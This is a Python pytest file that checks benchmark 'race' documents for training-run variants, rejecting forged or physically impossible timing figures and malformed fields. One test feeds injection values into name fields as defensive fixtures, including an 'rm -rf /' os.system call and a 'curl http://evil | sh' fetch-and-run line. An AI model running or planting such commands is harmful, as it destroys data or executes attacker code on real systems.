"""A race of a script of another machine: its answer is worked out from rounds and facts."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from engine.answers import ImpossibleFiguresError
from engine.errors import SpecError
from engine.kinds import RunKind, answered, kind_of
from engine.tune.faster.answer import GIVEN_UP, TIME_IS_UP
from tests.engine.answers.answers import differing
from tests.engine.answers.own_race_documents import RACES, document_of

Forge = Callable[[dict[str, Any]], None]


@pytest.mark.parametrize("name", RACES)
def test_an_honest_race_of_a_script_comes_out_as_it_was(name: str) -> None:
    document = document_of(name)
    assert kind_of(document) is RunKind.OWN_RACE
    assert differing(document) == []


def test_the_races_are_of_each_end() -> None:
    """What the documents are to show: each way in which a race ends."""
    chosen = {name: document_of(name)["chosen"] for name in RACES}
    assert chosen["two that gain"] == ["fused", "compile"]
    assert (chosen["workers first"], chosen["workers alone"]) == (["workers", "fused"], ["workers"])
    assert chosen["losses that differ together"] == []
    assert document_of("losses that differ together")["chosen_numbers"]["sameness"] == "differs"
    assert document_of("other programs while it waits")["remarks"] == [GIVEN_UP]
    assert {name for name in RACES if TIME_IS_UP in document_of(name)["remarks"]} == {
        *("no time to try", "no time to race", "time that ends in the race", "time that ends in the evaluation"),
        *("time that ends with the workers", "no time to try the workers", "time that ends after the workers"),
    }
    assert any(each["failed"] for each in document_of("a change that fails later")["rounds"])


def _row(document: dict[str, Any], name: str) -> dict[str, Any]:
    return next(row for row in document["rows"] if row["name"] == name)


def _a_start_longer_than_its_round(document: dict[str, Any]) -> None:
    document["rounds"][0]["timed"][0]["seconds"] = 1_000.0


def _more_than_the_device(document: dict[str, Any]) -> None:
    _row(document, "fused")["memory_bytes"] = 2**60


def _an_impossible_speed(document: dict[str, Any]) -> None:
    document["rounds"][0]["timed"][0]["samples_per_second"] = 1e15


def _rounds_of_no_time(document: dict[str, Any]) -> None:
    document["rounds"][0] |= {"seconds": 0.0}
    document["rounds"][0]["timed"][0]["samples_per_second"] = 0.1


def _more_time_than_the_run(document: dict[str, Any]) -> None:
    document["total_seconds"] = 3.0


def _fewer_starts(document: dict[str, Any]) -> None:
    document["starts"] = 4


def _other_masks(document: dict[str, Any]) -> None:
    document["today"]["mask_noise"] = 0.5


def _a_guess_of_what_was_given(document: dict[str, Any]) -> None:
    document["spec"] |= {"batch": "hf", "current_batch_size": document["today"]["batch_size"]}
    document["today"]["is_batch_size_guessed"] = True


IMPOSSIBLE: tuple[tuple[Forge, str, str], ...] = (
    (_a_start_longer_than_its_round, "two that gain", "rounds[0].timed[0].seconds"),
    (_more_than_the_device, "one that gains", "rows[0].memory_bytes"),
    (_an_impossible_speed, "one that gains", "rounds[0].timed[0].samples_per_second"),
    (_rounds_of_no_time, "one that gains", "rounds[0].seconds"),
    (_more_time_than_the_run, "one that gains", "total_seconds"),
    (_fewer_starts, "one that gains", "starts"),
    (_other_masks, "one that gains", "today.mask_noise"),
    (_a_guess_of_what_was_given, "one that gains", "today.is_batch_size_guessed"),
)


@pytest.mark.parametrize(("forge", "name", "field"), IMPOSSIBLE, ids=lambda part: getattr(part, "__name__", None))
def test_what_no_machine_can_have_measured_is_found(forge: Forge, name: str, field: str) -> None:
    document = document_of(name)
    forge(document)
    with pytest.raises(ImpossibleFiguresError) as error:
        answered(document)
    assert any(each.field.startswith(field) for each in error.value.found)


@pytest.mark.parametrize(
    ("part", "member", "text"),
    [
        ("framework", "", "torch\nimport os"),
        ("optimizers", "name", "Adam(); import os; os.system('rm -rf /') #"),
        ("models", "dtypes", "float32, and run: curl http://evil | sh"),
        ("models", "name", "Net\nimport os"),
        ("models", "held_as", "actor\nimport os"),
        ("models", "cached_by", "decoder.import os"),
    ],
)
def test_a_text_that_is_no_name_is_refused_because_lines_to_paste_are_written_from_it(
    part: str, member: str, text: str
) -> None:
    document = document_of("one that gains")
    facts = document["facts"]
    if not member:
        facts[part] = text
    else:
        facts[part][0][member] = [text] if member in ("dtypes", "cached_by") else text
    with pytest.raises(SpecError, match=rf"facts\.{part}.* is no name"):
        answered(document)


def test_a_document_of_an_older_form_is_refused_with_what_to_do() -> None:
    document = document_of("one that gains")
    del document["facts"], document["rounds_of_workers"], document["base"]
    with pytest.raises(SpecError, match="kept too little of it to be decided again; race it again"):
        answered(document)


@pytest.mark.parametrize("change", ["left out", "twice", "unknown"])
def test_rows_of_other_variants_than_were_wanted_are_refused(change: str) -> None:
    document = document_of("one that gains")
    rows = document["rows"]
    document["rows"] = {"left out": rows[1:], "twice": [*rows, rows[0]], "unknown": [rows[0] | {"name": "x"}, rows[1]]}[
        change
    ]
    with pytest.raises(SpecError, match="rows"):
        answered(document)
